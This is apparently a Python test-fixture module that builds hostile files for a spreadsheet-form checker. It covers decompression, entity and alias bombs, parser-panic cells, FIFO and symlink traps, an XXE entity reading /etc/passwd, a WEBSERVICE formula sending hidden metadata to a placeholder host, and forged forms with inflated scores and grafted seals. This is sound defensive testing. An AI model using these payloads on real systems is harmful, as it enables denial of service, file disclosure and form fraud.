"""Hostile and broken inputs, written by the tests (small files, never binaries in git).

Each writer makes one file (or file-system object) that once stopped, hung or exhausted
a run, in the smallest form that still does it: a workbook whose single far cell asks a
reader for 512 GB, a date that makes python-calamine panic, a shared-string table that
declares 2^64 strings, a merged range over the whole sheet, a FIFO named like a workbook,
a symbolic link loop, a name in GBK bytes, a YAML spec of nested aliases.
"""

from __future__ import annotations

import os
import socket
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
TWO_TO_THE_64 = "18446744073709551615"


def workbook(path: Path, sheet_data: str, *, after: str = "", styles: str | None = None,
             shared_strings: str | None = None, level: int = 6) -> Path:
    """A one-sheet .xlsx ("Sheet1") with ``sheet_data`` inside <sheetData>, ``after`` after it."""
    relations = [f'<Relationship Id="rId1" Type="{DOC}/worksheet" Target="worksheets/sheet1.xml"/>']
    parts = {}
    if styles is not None:
        relations.append(f'<Relationship Id="rId2" Type="{DOC}/styles" Target="styles.xml"/>')
        parts["xl/styles.xml"] = f'<styleSheet xmlns="{MAIN}">{styles}</styleSheet>'
    if shared_strings is not None:
        relations.append(f'<Relationship Id="rId3" Type="{DOC}/sharedStrings" Target="sharedStrings.xml"/>')
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update({
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
                       f'Type="{DOC}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{DOC}"><sheets>'
                           '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELS}">{"".join(relations)}</Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData>{sheet_data}</sheetData>{after}'
                                    '</worksheet>',
    })
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, text in parts.items():
            archive.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + text)
    return path


TITLE = '<row r="1"><c r="A1" t="inlineStr"><is><t>项目支出绩效自评表</t></is></c></row>'


def far_cell(path: Path) -> Path:
    """One value at XFD1048576: a reader that builds the sheet as a grid asks for 512 GB."""
    return workbook(path, TITLE + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def date_panic(path: Path) -> Path:
    """A date-formatted cell far before year 1: python-calamine panics converting it
    (PanicException: TimeDelta::milliseconds out of bounds), which is no ``Exception``."""
    return workbook(path, TITLE + '<row r="2"><c r="A2" s="1"><v>-1e15</v></c></row>',
                    styles='<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>')


def strings_panic(path: Path) -> Path:
    """A shared-string table declaring 2^64 − 1 strings: python-calamine reserves room for them
    and panics (capacity overflow); a count of 4e9 aborts the process instead."""
    table = (f'<sst xmlns="{MAIN}" count="1" uniqueCount="{TWO_TO_THE_64}"><si><t>项目</t></si></sst>')
    return workbook(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared_strings=table)


def merged_sheet(path: Path) -> Path:
    """One merged range over the whole sheet: readers expand it cell by cell."""
    return workbook(path, TITLE, after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def style_bomb(path: Path, count: int = 100_000) -> Path:
    """100,000 cell formats (Excel allows 64,000), varied so that they do not compress away: openpyxl
    builds an object for each (seconds and hundreds of MB from a file of 600 KB)."""
    import random

    rng = random.Random(12)
    formats = "".join(f'<xf numFmtId="{rng.randrange(200)}" fontId="0" fillId="0" borderId="{rng.randrange(99999)}"/>'
                      for _ in range(count))
    return workbook(path, TITLE, styles=f'<cellXfs count="{count}">{formats}</cellXfs>')


def many_sheets(path: Path, count: int = 1_001) -> Path:
    """A workbook listing a thousand and one sheets (all the same part)."""
    workbook(path, TITLE)
    with zipfile.ZipFile(path) as archive:
        parts = {item.filename: archive.read(item.filename) for item in archive.infolist()}
    sheets = "".join(f'<sheet name="表{i}" sheetId="{i + 1}" r:id="rId1"/>' for i in range(count))
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', sheets.encode())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def dense(path: Path, rows: int, cols: int) -> Path:
    """A sheet of rows × cols numbers (within the extent checks): costs its reader real memory."""
    cells = "".join(f'<c r="{_column(c)}{{row}}"><v>{c}</v></c>' for c in range(cols))
    body = "".join(f'<row r="{r}">' + cells.replace("{row}", str(r)) + "</row>" for r in range(1, rows + 1))
    return workbook(path, body, level=1)


def _column(index: int) -> str:
    out = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        out = chr(65 + rest) + out
    return out


def ods_grid(path: Path, rows: int = 9_000, cols: int = 10_000) -> Path:
    """An OpenDocument sheet whose last cell sits at rows × cols through repeated empty rows and cells:
    1.6 KB that python-calamine lays out as a 90-million-cell grid (2.9 GB)."""
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="Sheet1">'
               '<table:table-row><table:table-cell office:value-type="string"><text:p>项目支出绩效自评表</text:p>'
               f'</table:table-cell></table:table-row><table:table-row table:number-rows-repeated="{rows - 2}">'
               f'<table:table-cell/></table:table-row><table:table-row><table:table-cell '
               f'table:number-columns-repeated="{cols - 1}"/><table:table-cell office:value-type="float" '
               'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
               '</table:table></office:spreadsheet></office:body></office:document-content>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            '</manifest:manifest>'))
    return path


def fifo(path: Path) -> Path:
    """A named pipe called like a workbook: reading it waits for a writer for ever."""
    os.mkfifo(path)
    return path


def unix_socket(path: Path) -> socket.socket:
    """A socket file called like a workbook (the caller closes the returned socket)."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    return server


def symlink_loop(folder: Path, name: str = "循环.xlsx") -> Path:
    """``name`` → ``name``.b → ``name``: a link that never reaches a file."""
    first, second = folder / name, folder / f"{name}.b.xlsx"
    os.symlink(second.name, first)
    os.symlink(first.name, second)
    return first


def folder_loop(folder: Path) -> Path:
    """A link inside ``folder`` to ``folder`` itself."""
    link = folder / "又是本文件夹"
    os.symlink(".", link)
    return link


def gbk_name(folder: Path, name: str) -> Path:
    """A path whose last name is ``name`` in GBK bytes, as unzipping a Windows zip leaves it."""
    return Path(os.fsdecode(os.fsencode(folder) + b"/" + name.encode("gbk")))


def alias_bomb(path: Path, levels: int = 9) -> Path:
    """A spec under 1 KB whose nested aliases expand to 9^9 strings."""
    lines = ["year: 2019", "project: 炸弹", "indicators: []",
             'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels + 1)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def deep_nesting(path: Path, depth: int = 50_000) -> Path:
    """A spec (YAML, or JSON by the suffix) nested ``depth`` lists deep."""
    if path.suffix == ".json":
        path.write_text('{"year": 2019, "project": ' + "[" * depth + "]" * depth + "}", encoding="utf-8")
    else:
        path.write_text("year: 2019\nproject: " + "[" * depth + "]" * depth + "\n", encoding="utf-8")
    return path


def run_capped(command: list[str], megabytes: int, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Run ``command`` as under ``ulimit -v``: a process that may use ``megabytes`` of address space."""
    import resource

    def limit() -> None:
        cap = megabytes * 1024 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    return subprocess.run(command, capture_output=True, text=True, timeout=timeout, preexec_fn=limit, check=False)


def misbehave(item: str) -> str:
    """A worker's task for the pool's own tests: what the item names happens to its worker."""
    import signal
    import time

    what, _, arg = item.partition(":")
    if what == "abort":
        os.abort()
    if what == "segfault":
        os.kill(os.getpid(), signal.SIGSEGV)
    if what == "hang":
        time.sleep(3600)
    if what == "hog":  # Python asks for more than the memory limit
        return str(len(bytearray(8 << 30)))
    if what == "native-hog":  # native code does (python-calamine on the far cell): it aborts
        from python_calamine import CalamineWorkbook

        CalamineWorkbook.from_path(arg).get_sheet_by_name("Sheet1")
    if what == "killed":  # as the system's out-of-memory killer would
        os.kill(os.getpid(), signal.SIGKILL)
    if what == "killed-once":  # … once: the second worker gets through
        marker = Path(arg)
        if not marker.exists():
            marker.touch()
            os.kill(os.getpid(), signal.SIGKILL)
    if what == "exit":
        os._exit(7)
    return f"done {item}"


LAUGHS = ('<!DOCTYPE r [<!ENTITY a0 "ha">'
          + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + "]>")
XXE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def rewrite(source: Path, dest: Path, change: dict[str, Callable[[bytes], bytes]],
            extra: tuple[tuple[str, bytes], ...] = ()) -> Path:
    """A copy of the workbook ``source`` with parts changed (each by its function) and ``extra``
    entries appended as they are (two of one name, when a name is already there)."""
    import warnings

    with zipfile.ZipFile(source) as src:
        parts = [(item.filename, src.read(item.filename)) for item in src.infolist()]
    with warnings.catch_warnings(), zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        warnings.simplefilter("ignore")  # "Duplicate name", wanted here
        for name, data in parts:
            out.writestr(name, change[name](data) if name in change else data)
        for name, data in extra:
            out.writestr(name, data)
    return dest


def with_dtd(source: Path, dest: Path, part: str, dtd: str = LAUGHS, *, padding: int = 0,
             utf16: bool = False) -> Path:
    """``source`` with a DTD (entity expansion, or an external entity) in the prolog of ``part``, which
    nothing need refer to: behind ``padding`` bytes of comment, in UTF-16 when ``utf16``."""
    def add(data: bytes) -> bytes:
        text = data.decode("utf-8")
        declaration, _, body = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
        comment = f"<!--{' ' * padding}-->" if padding else ""
        if utf16:
            return ('<?xml version="1.0" encoding="UTF-16"?>' + comment + dtd + body).encode("utf-16")
        return ((declaration + "?>" if declaration else "") + comment + dtd + body).encode("utf-8")
    return rewrite(source, dest, {part: add})


def twin_part(source: Path, dest: Path, part: str, other: bytes, *, first: bool = False,
              spelling: str | None = None) -> Path:
    """``source`` with a second entry named ``part`` (or ``spelling``, the same name in other case)
    holding ``other``; ``first``: the other entry comes before the original one."""
    if not first:
        return rewrite(source, dest, {}, ((spelling or part, other),))
    with zipfile.ZipFile(source) as src:
        parts = [(item.filename, src.read(item.filename)) for item in src.infolist()]
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        warnings.simplefilter("ignore")
        for name, data in parts:
            if name == part:
                out.writestr(spelling or part, other)
            out.writestr(name, data)
    return dest


FAR_SHEET = (f'<worksheet xmlns="{MAIN}"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
             '</sheetData></worksheet>').encode()


def forge(source: Path, dest: Path, how: str) -> Path:
    """A sealed form changed as a sender might, with openpyxl (which keeps the _meta sheet and the seal):
    "unhide" the hidden sheets, add a "second-sheet" 自评表, type a "webservice" or "hidden-ref"
    formula into an input cell, replace the score formulas with "constants" that show more."""
    import openpyxl

    wb = openpyxl.load_workbook(source)
    ws = wb["自评表"]
    actual = next(c for c in ws["F"] if c.row > 12 and c.protection.locked is False and c.value is not None)
    if how == "unhide":
        wb["计算"].sheet_state = "visible"
        wb["_meta"].sheet_state = "visible"
    elif how == "second-sheet":
        copy = wb.copy_worksheet(ws)
        copy.title = "自评表 (2)"
        wb.move_sheet(copy, -(len(wb.sheetnames) - 1))
    elif how == "webservice":
        actual.value = '=WEBSERVICE("http://example.invalid/"&_meta!B18)'
    elif how == "hidden-ref":
        actual.value = "=参数!B2"
    elif how == "constants":
        for row in ws.iter_rows(min_row=13, min_col=8, max_col=8):
            if isinstance(row[0].value, str) and row[0].value.startswith("="):
                row[0].value = 999
    else:
        raise ValueError(how)
    wb.save(dest)
    return dest


def graft_meta(form: Path, donor: Path, dest: Path) -> Path:
    """``form`` with the hidden _meta record (and its seal) of another, genuine form ``donor``."""
    import openpyxl

    wb = openpyxl.load_workbook(form)
    donated = {row[0].value: row[1].value for row in openpyxl.load_workbook(donor)["_meta"].iter_rows(max_col=2)}
    for row in wb["_meta"].iter_rows(max_col=2):
        if row[0].value in donated:
            row[1].value = donated[row[0].value]
    wb.save(dest)
    return dest


def fake_values_copy(source: Path, dest: Path) -> Path:
    """A form passed off as a values-only copy (_meta's mode says so, the probe emptied) whose score
    formulas were replaced by numbers that show more than the form scores."""
    import openpyxl

    wb = openpyxl.load_workbook(source)
    ws = wb["自评表"]
    for row in ws.iter_rows(min_row=13, min_col=8, max_col=8):
        if isinstance(row[0].value, str) and row[0].value.startswith("="):
            row[0].value = 99
    for row in wb["_meta"].iter_rows(max_col=2):
        if row[0].value == "mode":
            row[1].value = "values-only"
        if row[0].value == "recalc_probe":
            row[1].value = None
    wb.save(dest)
    return dest


def edit_meta(source: Path, dest: Path, entry: str, value: str) -> Path:
    """``source`` with the _meta entry ``entry`` set to ``value``."""
    import openpyxl

    wb = openpyxl.load_workbook(source)
    for row in wb["_meta"].iter_rows(max_col=2):
        if row[0].value == entry:
            row[1].value = value
    wb.save(dest)
    return dest


def retarget(source: Path, dest: Path, target: str) -> Path:
    """A one-sheet workbook of tests/attacks (``workbook``) whose relationship names its sheet part as
    ``target`` (another spelling of worksheets/sheet1.xml)."""
    old = b'Target="worksheets/sheet1.xml"'
    return rewrite(source, dest, {"xl/_rels/workbook.xml.rels": lambda data: data.replace(old, f'Target="{target}"'.encode())})


LOOKALIKES = {  # name -> content of files that are no workbook though named like one, as they arrive
    "网页.xls": '\ufeff<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
               "<body><table><tr><td>项目支出绩效自评表</td></tr></table></body></html>".encode("utf-8"),
    "导出.xls": "项目支出绩效自评表,年度指标值,实际完成值\r\n食品监督抽检,1800批次,1817\r\n".encode("gbk"),
    "单个网页.xls": b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart"\r\n\r\n',
    "表格2003.xls": b'<?xml version="1.0"?>\r\n<?mso-application progid="Excel.Sheet"?>\r\n'
                  b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>',
    "扫描件.xlsx": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
    "~$自评表.xlsx": b"\x0bAdministrator" + b"\x00" * 40 + b"\x0bA\x00d\x00m\x00i\x00n\x00" + b"\x00" * 100,
}


def twin_sheet(source: Path, dest: Path, *, first: bool) -> Path:
    """``source`` (one of our forms) with a second sheet named 自评表 — a copy whose first weight of 25 is 5 —
    listed before (``first``) or after the genuine one."""
    with zipfile.ZipFile(source) as archive:
        forged = archive.read("xl/worksheets/sheet1.xml").replace(b"<v>25</v>", b"<v>5</v>", 1)
    entry = '<sheet name="自评表" sheetId="99" r:id="rId99"/>'.encode()
    relation = (f'<Relationship Id="rId99" Type="{DOC}/worksheet" Target="worksheets/sheet99.xml"/>').encode()
    override = (b'<Override PartName="/xl/worksheets/sheet99.xml" '
                b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    return rewrite(source, dest, {
        "xl/workbook.xml": (lambda d: d.replace(b"<sheets>", b"<sheets>" + entry)) if first
        else (lambda d: d.replace(b"</sheets>", entry + b"</sheets>")),
        "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", relation + b"</Relationships>"),
        "[Content_Types].xml": lambda d: d.replace(b"</Types>", override + b"</Types>"),
    }, (("xl/worksheets/sheet99.xml", forged),))
